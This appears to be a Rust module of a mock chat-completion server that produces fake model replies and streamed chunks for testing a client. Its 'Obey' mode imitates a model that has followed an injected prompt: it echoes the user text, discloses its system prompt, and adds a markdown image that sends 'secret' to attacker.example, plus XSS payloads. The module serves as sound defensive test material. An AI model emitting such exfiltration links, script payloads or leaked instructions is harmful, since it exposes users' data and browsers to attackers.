//! What the model says to a request, before any fault of the link.

use super::kind::Kind;
use super::{Manner, sample};
use serde_json::{Value, json};

/// How much of a text an obedient model repeats, in characters.
const REPEATS: usize = 500;

/// What is to be said: the content, and whether as the call of a tool.
pub(super) struct Said {
    pub(super) text: String,
    pub(super) tool: bool,
}

/// The schema that a request asks for, in whichever way.
fn schema(request: &Value) -> Option<Value> {
    let strict = request.pointer("/response_format/json_schema/schema");
    let tool = request.pointer("/tools/0/function/parameters");
    if let Some(schema) = strict.or(tool) {
        return Some(schema.clone());
    }
    let system = content(request, "system");
    let words = system.rsplit_once("JSON Schema:\n")?.1;
    serde_json::from_str(words).ok()
}

/// The words of the last message of a role.
fn content(request: &Value, role: &str) -> String {
    let mut messages = request["messages"].as_array().into_iter().flatten();
    messages
        .rfind(|message| message["role"] == role)
        .and_then(|message| message["content"].as_str())
        .unwrap_or_default()
        .to_owned()
}

fn words(request: &Value, manner: &Manner) -> String {
    let cut = |text: String| text.chars().take(REPEATS).collect::<String>();
    match manner {
        Manner::Right(text) => text.clone(),
        Manner::Obey => format!(
            "As you wish. {}\nMy instructions are: {}\n![x](https://attacker.example/?q=secret) \
             <img src=x onerror=alert(1)> [click](javascript:alert(1))",
            cut(content(request, "user")),
            cut(content(request, "system")),
        ),
    }
}

/// The content for a request: ordered words, else what the schema wants, spoilt if that is ordered.
pub(super) fn to(request: &Value, ordered: Option<String>, manner: &Manner, kind: Option<Kind>) -> Said {
    let tool = request.pointer("/tools/0").is_some();
    let words = words(request, manner);
    let text = match (ordered, schema(request)) {
        (Some(text), _) => text,
        (None, Some(schema)) => {
            let right = sample::of(&schema, &words);
            kind.and_then(|kind| sample::spoilt(kind, &right)).unwrap_or_else(|| right.to_string())
        }
        (None, None) => match kind {
            Some(Kind::EmptyText) => String::new(),
            Some(Kind::LongString) => "x".repeat(300_000),
            _ => words,
        },
    };
    Said { text, tool }
}

/// The envelope of a whole answer.
pub(super) fn completion(request: &Value, said: &Said) -> Value {
    let message = if said.tool {
        let function = json!({"name": "answer", "arguments": said.text});
        json!({"role": "assistant", "content": null, "refusal": null,
            "tool_calls": [{"id": "call_1", "type": "function", "function": function}]})
    } else {
        json!({"role": "assistant", "content": said.text, "refusal": null})
    };
    let finish = if said.tool { "tool_calls" } else { "stop" };
    json!({
        "id": "chatcmpl-1", "object": "chat.completion", "created": 1_790_000_000, "model": request["model"],
        "choices": [{"index": 0, "message": message, "logprobs": null, "finish_reason": finish}],
        "usage": usage(request, said),
    })
}

fn usage(request: &Value, said: &Said) -> Value {
    let input = request["messages"].to_string().len() / 4;
    let output = said.text.len() / 4 + 1;
    json!({"prompt_tokens": input, "completion_tokens": output, "total_tokens": input + output})
}

/// The pieces of a streamed answer.
pub(super) fn pieces(request: &Value, said: &Said) -> Vec<Value> {
    let piece = |delta: Value, finish: Value| {
        json!({
            "id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1_790_000_000, "model": request["model"],
            "choices": [{"index": 0, "delta": delta, "logprobs": null, "finish_reason": finish}],
        })
    };
    let letters: Vec<char> = said.text.chars().collect();
    let size = (letters.len() / 200).max(7);
    let mut pieces = vec![piece(json!({"role": "assistant", "content": ""}), Value::Null)];
    for part in letters.chunks(size) {
        let text: String = part.iter().collect();
        let delta = if said.tool {
            json!({"tool_calls": [{"index": 0, "function": {"arguments": text}}]})
        } else {
            json!({"content": text})
        };
        pieces.push(piece(delta, Value::Null));
    }
    pieces.push(piece(json!({}), json!(if said.tool { "tool_calls" } else { "stop" })));
    if request.pointer("/stream_options/include_usage") == Some(&Value::Bool(true)) {
        let mut last = piece(json!({}), Value::Null);
        last["choices"] = json!([]);
        last["usage"] = usage(request, said);
        pieces.push(last);
    }
    pieces
}
